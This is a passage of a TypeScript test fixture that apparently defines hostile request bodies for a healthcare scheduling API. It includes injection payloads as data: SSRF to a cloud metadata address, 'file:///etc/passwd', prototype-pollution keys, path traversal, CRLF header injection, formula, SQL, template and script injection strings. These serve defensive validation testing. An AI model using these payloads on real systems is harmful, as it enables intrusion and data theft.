          }),
    }),
  ),
  ...['__proto__', 'constructor', '../x', FACILITY.toUpperCase().slice(0, 20)].map(
    (locationId): HostileCase => ({
      name: `the place ${locationId} in a block, which is the vendor’s to judge`,
      json: { availableTime: [at(['mon'], '08:00', '09:00', { locationId })] },
      key: KEYS.south,
      status: 422,
      code: 'vendor_rejected',
      reachesVendor: true,
    }),
  ),
  ...[
    'javascript:alert(1)',
    'http://169.254.169.254/latest',
    'file:///etc/passwd',
    'urn:oid:1.2.3',
    'http://snomed.info/sct#x',
  ].map(
    (system): HostileCase => ({
      name: `the code system ${system}`,
      json: { specialty: { code: '1', system } },
      ...UNSUPPORTED,
      errors: ['/specialty/system unsupported_field'],
    }),
  ),
  bad(
    'a code system that is no URI',
    { specialty: { code: '1', system: 'not a uri' } },
    '/specialty/system invalid_format',
  ),
  bad(
    'a code system over a line',
    { specialty: { code: '1', system: 'http://snomed.info/sct\r\nx: y' } },
    '/specialty/system invalid_format',
  ),
  ...[
    '=1+1',
    '@SUM(A1)',
    '+cmd|calc',
    '-2+3',
    '\tx',
    "';--",
    '${7*7}',
    '{{7*7}}',
    '<img src=x onerror=y>',
    '\u202egnp.exe',
    '../../x',
    'file:///etc/passwd',
    '%0d%0ax: y',
  ].map(
    (role): HostileCase => ({
      name: `the role ${JSON.stringify(role)}`,
      json: { role },
      status: 200,
      wire: { role: role.trim() },
    }),
  ),
  {
    name: 'a display that reads like markup',
    json: { specialty: { code: '1', display: '<b>&amp;</b>' } },
    status: 200,
    wire: { specialty: { code: '1', display: '<b>&amp;</b>' } },
  },
  {
    name: 'all that a vendor does not hold is named',
    json: { name: { given: 'Ana', family: 'X' }, nationalId: '12345678', gender: 'male' },
    ...UNSUPPORTED,
    errors: [
      '/name/given unsupported_field',
      '/name/family unsupported_field',
      '/nationalId unsupported_field',
      '/gender unsupported_field',
    ],
  },
  {
    name: 'a field that cannot be cleared',
    json: { role: null, status: null },
    status: 422,
    code: 'not_clearable',
    errors: ['/status not_clearable', '/role not_clearable'],
  },
  {
    name: 'a whole name cleared',
    json: { name: null },
    key: KEYS.centro,
    status: 422,
    code: 'not_clearable',
    errors: ['/name/given not_clearable', '/name/family not_clearable'],
  },
  {
    name: 'nothing but what is dropped',
    json: { phone: '+54 11 4567-8901' },
    headers: [['prefer', 'handling=lenient']],
    ...UNSUPPORTED,
    errors: ['/phone unsupported_field'],
  },
];

export const IN_THE_BODY: Readonly<Record<string, readonly HostileCase[]>> = {
  'JSON shapes': SHAPES,
  'names in Unicode': NAMES,
  dates: DATES,
  identifiers: IDENTIFIERS,
  schedules: SCHEDULES,
  'read-only and foreign members': MASS_ASSIGNMENT,
  'values that mean something elsewhere': VALUES,
};
